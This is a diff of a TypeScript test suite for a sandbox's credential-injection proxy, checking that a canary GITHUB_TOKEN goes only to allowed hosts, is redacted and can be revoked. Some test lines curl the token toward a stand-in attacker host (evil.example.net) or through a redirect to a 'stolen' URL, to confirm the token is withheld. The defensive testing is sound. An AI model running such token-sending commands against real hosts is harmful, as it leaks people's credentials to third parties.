@@ -11,22 +11,22 @@ const seen = () => machine.internet.world.seen({ take: true });
 const network = "api.example.com,git.example.com,other.example.com,evil.example.net,unknown-ca.example.com,wrong-name.example.com";
 const guarded = "git.example.com,api.example.com,unknown-ca.example.com,wrong-name.example.com";
 const scope = `GITHUB_TOKEN@${guarded};git;methods=GET|POST;paths=/canary|/repo.git|/echo|/redirect`;
-/** What is in the caller's environment is not sent to a station at an address: it keeps such a secret itself. */
+/** A station at an address gets nothing from the caller's environment, so in this mode it stores the secret itself. */
 const isKept = stationMode === "http";
 const secret = isKept ? "GITHUB_TOKEN" : `${scope};from=env:RIG_CANARY`;
 const own = () => (isKept ? {} : { env: { RIG_CANARY: machine.internet.canary } });
-/** The one place where a kept secret is. */
+/** The only file that may contain the stored secret. */
 const keptIn = () => (isKept ? [join(machine.home, "secrets", "local", "GITHUB_TOKEN.value")] : []);
 
-/** Everything that anybody could read of what commands said. */
-const heard: string[] = [];
+/** The output of all commands. */
+const outputs: string[] = [];
 async function caisson(...argv: string[]) {
   const finished = await machine.run(argv, own());
-  heard.push(finished.stdout, finished.stderr);
+  outputs.push(finished.stdout, finished.stderr);
   return finished;
 }
 
-describe("a canary (S01)", () => {
+describe("a canary secret (S01)", () => {
   let inside: Inside;
   let placeholder = "";
   beforeAll(async () => {
@@ -39,7 +39,7 @@ describe("a canary (S01)", () => {
     expect(finished.code, `${script}\n${finished.stdout}${finished.stderr}`).toBe(0);
     return finished.stdout;
   };
-  /** How the credential arrived, wherever it did. */
+  /** Returns the credential of each request that arrived. */
   const arrived = async () => (await seen()).requests.map(({ headers }) => headers.authorization ?? "none");
 
   test("is a placeholder of the same shape inside", async () => {
@@ -48,11 +48,11 @@ describe("a canary (S01)", () => {
     expect(placeholder).not.toBe(machine.internet.canary);
   });
 
-  test("reaches the server that it is for, and comes back as the placeholder", async () => {
+  test("reaches its server, and comes back as the placeholder", async () => {
     await seen();
-    const told = await sh('curl -sSi -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.com/canary');
+    const response = await sh('curl -sSi -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.com/canary');
     expect(await arrived()).toEqual([`Bearer ${machine.internet.canary}`]);
-    expect(told).toContain(`"authorization":"Bearer ${placeholder}"`);
+    expect(response).toContain(`"authorization":"Bearer ${placeholder}"`);
     const basic = await sh("curl -sS -u x-access-token:$GITHUB_TOKEN https://api.example.com/echo");
     expect(await arrived()).toEqual([`Basic ${Buffer.from(`x-access-token:${machine.internet.canary}`).toString("base64")}`]);
     expect(basic).toContain(Buffer.from(`x-access-token:${placeholder}`).toString("base64").slice(0, -3));
@@ -64,17 +64,17 @@ describe("a canary (S01)", () => {
     expect(await arrived()).toEqual([`token ${machine.internet.canary}`, machine.internet.canary]);
   });
 
-  test("pushes with git, which asks for it by itself", async () => {
+  test("authenticates git push through git's own credential request", async () => {
     const url = machine.internet.repository("repo");
     await sh(`cd /home/user && git clone -q ${url} repo && cd repo && git config user.email a@example.com && git config user.name a &&
       echo changed > README && git commit -qam changed && git push -q origin HEAD:pushed`);
     expect((await machine.program(["git", "ls-remote", url])).stdout).toContain("refs/heads/pushed");
-    // A server that refuses it makes git say so, and nothing else.
+    // If the server refuses it, git reports that and nothing else.
     const refused = await run("cd /home/user/repo && git push -v https://git.example.com/private/none.git HEAD:x 2>&1");
     expect(refused.code).not.toBe(0);
   });
 
-  test("goes nowhere else: another host, method, path, port, or without TLS (N08)", async () => {
+  test("is not sent to another host, method or path, or without TLS (N08)", async () => {
     await seen();
     const header = '-H "Authorization: Bearer $GITHUB_TOKEN"';
     const urls = [
@@ -92,7 +92,7 @@ describe("a canary (S01)", () => {
     expect(textWith(JSON.stringify(requests), machine.internet.canary)).toEqual([]);
     expect(JSON.stringify(requests.slice(0, 5))).toContain(placeholder);
     expect((await caisson("net", "log", inside.id)).stdout).toMatch(
-      /GITHUB_TOKEN withheld from api\.example\.com: it is not for this path/,
+      /GITHUB_TOKEN withheld from api\.example\.com: its scope does not include this path/,
     );
   });
 
@@ -106,12 +106,12 @@ describe("a canary (S01)", () => {
       ["evil.example.net", `Bearer ${placeholder}`],
     ]);
     const denied = encodeURIComponent("https://cdn.example.net/stolen");
-    const said = await run(`curl -sSL -H "Authorization: Bearer $GITHUB_TOKEN" 'https://api.example.com/redirect?to=${denied}'`);
-    expect(said.code).toBe(56);
+    const result = await run(`curl -sSL -H "Authorization: Bearer $GITHUB_TOKEN" 'https://api.example.com/redirect?to=${denied}'`);
+    expect(result.code).toBe(56);
     expect((await seen()).requests).toHaveLength(1);
   });
 
-  test("is not sent to a server that cannot prove who it is", async () => {
+  test("is not sent to a server without a valid certificate", async () => {
     await seen();
     for (const host of ["unknown-ca.example.com", "wrong-name.example.com"]) {
       const { stdout } = await run(`curl -sSi -H "Authorization: Bearer $GITHUB_TOKEN" https://${host}/canary`);
@@ -120,7 +120,7 @@ describe("a canary (S01)", () => {
     expect((await seen()).requests).toEqual([]);
   });
 
-  test("other TLS is untouched, and one sandbox does not trust another's authority", async () => {
+  test("leaves other TLS alone, and each sandbox has its own authority", async () => {
     const issuer = (host: string) =>
       `openssl s_client -proxy 127.0.0.1:19080 -connect ${host}:443 -servername ${host} </dev/null 2>/dev/null | openssl x509 -noout -issuer`;
     expect(await sh(issuer("other.example.com"))).toContain("Caisson test rig");
@@ -136,7 +136,7 @@ describe("a canary (S01)", () => {
     await other.remove();
   });
 
-  test("is found nowhere: processes, files, events, output, logs, the state folder", async () => {
+  test("is in no process, file, event, output or log, nor in the state folder", async () => {
     const forms = formsOf(machine.internet.canary).join("\n");
     for (const user of ["user", "root"]) {
       const argv = ["exec", "--sandbox", inside.id, "--user", user, "--", "python3", "-c", searchInside];
@@ -147,15 +147,15 @@ describe("a canary (S01)", () => {
     await caisson("net", "log", inside.id, "--json");
     await caisson("net", "show", inside.id, "--json");
     await caisson("sandbox", "ls", "--json");
-    expect(heard.length).toBeGreaterThan(30);
-    expect(textWith(heard.join("\n"), machine.internet.canary)).toEqual([]);
+    expect(outputs.length).toBeGreaterThan(30);
+    expect(textWith(outputs.join("\n"), machine.internet.canary)).toEqual([]);
     expect(filesWith(machine.home, machine.internet.canary)).toEqual(keptIn());
-    // The same search does find what is there.
+    // Proves that the same search can find something.
     expect(filesWith(machine.home, placeholder)).not.toEqual([]);
   });
 
-  test("whoever has it anyway is not shown it: output and events are redacted", async () => {
-    // A program inside that learnt it some other way, such as from a file of the user's own.
+  test("is redacted in output and events if it leaks inside", async () => {
+    // A program inside may learn it in another way, such as from one of the user's files.
     const { canary } = machine.internet;
     const leaked = await machine.run(
       ["exec", "--json", "--sandbox", inside.id, "--", "sh", "-c", `echo ${canary}; echo ${Buffer.from(canary).toString("base64")}`],
@@ -166,7 +166,7 @@ describe("a canary (S01)", () => {
     expect(leaked.stdout).toContain(`"text":"${placeholder}\\n`);
   });
 
-  test("is dead within a second of being revoked (S05), also on a connection that is open", async () => {
+  test("stops working within a second of being revoked (S05), even when in use", async () => {
     const loop = `while :; do curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: $GITHUB_TOKEN" https://api.example.com/canary; done`;
     const using = machine.start(["exec", "--sandbox", inside.id, "--", "sh", "-c", loop]);
     const keepAlive = `import http.client, os, time
@@ -176,21 +176,21 @@ while True:
         c.request("GET", "/canary?kept", headers={"Authorization": os.environ["GITHUB_TOKEN"]}); r = c.getresponse(); r.read(); print(r.status, flush=True)
     except Exception as error: print("broken", error, flush=True); break
     time.sleep(0.02)`;
-    const kept = machine.start(["exec", "--sandbox", inside.id, "--", "python3", "-c", keepAlive]);
-    await Promise.all([using.says(/200\n200\n/), kept.says(/200\n200\n/)]);
+    const keepAliveClient = machine.start(["exec", "--sandbox", inside.id, "--", "python3", "-c", keepAlive]);
+    await Promise.all([using.says(/200\n200\n/), keepAliveClient.says(/200\n200\n/)]);
     expect((await caisson("net", "revoke", inside.id, "GITHUB_TOKEN")).code).toBe(0);
     await new Promise((resolve) => setTimeout(resolve, 1000));
     await seen();
     await using.says(/502\n502\n/);
     const { requests } = await seen();
     expect(textWith(JSON.stringify(requests), machine.internet.canary)).toEqual([]);
-    for (const started of [using, kept]) started.child.kill("SIGTERM");
-    expect((await kept.finished).stdout).toMatch(/200\n(502|broken)/);
+    for (const started of [using, keepAliveClient]) started.child.kill("SIGTERM");
+    expect((await keepAliveClient.finished).stdout).toMatch(/200\n(502|broken)/);
     await using.finished;
     expect((await run('curl -sS -H "Authorization: $GITHUB_TOKEN" https://api.example.com/canary')).stdout).toMatch(
       /GITHUB_TOKEN.*revoked/,
     );
-    // It stays dead for whoever serves next.
+    // It stays revoked in the next serving process.
     const { servedBy } = JSON.parse((await caisson("net", "show", inside.id, "--json")).stdout) as { servedBy: number };
     process.kill(servedBy, "SIGKILL");
     expect((await run('curl -sS -H "Authorization: $GITHUB_TOKEN" https://api.example.com/canary')).stdout).toMatch(
@@ -205,8 +205,8 @@ while True:
   });
 });
 
-describe("where a secret comes from", () => {
-  test.runIf(stationMode === "http")("this machine: a station at an address is not sent it, and the way to do it is said", async () => {
+describe("the source of a secret", () => {
+  test.runIf(stationMode === "http")("is not read for a remote station, and the error says what to do instead", async () => {
     for (const from of ["env:RIG_CANARY", "file:/nowhere/token", "command:cat /nowhere/token"]) {
       const options = ["--no-workspace", "--secret", `KEY@api.example.com;from=${from}`];
       expect(await machine.run(["exec", ...options, "--", "true"])).toMatchObject({
@@ -219,7 +219,7 @@ describe("where a secret comes from", () => {
     expect(machine.sandboxes()).toEqual([]);
   });
 
-  test("a file, a program; what cannot be had is said before anything is made, without its value (S03)", async () => {
+  test("is a file or a program, and fails early without showing the value (S03)", async () => {
     const { canary } = machine.internet;
     mkdirSync(machine.folder, { recursive: true });
     const file = join(machine.folder, "token");
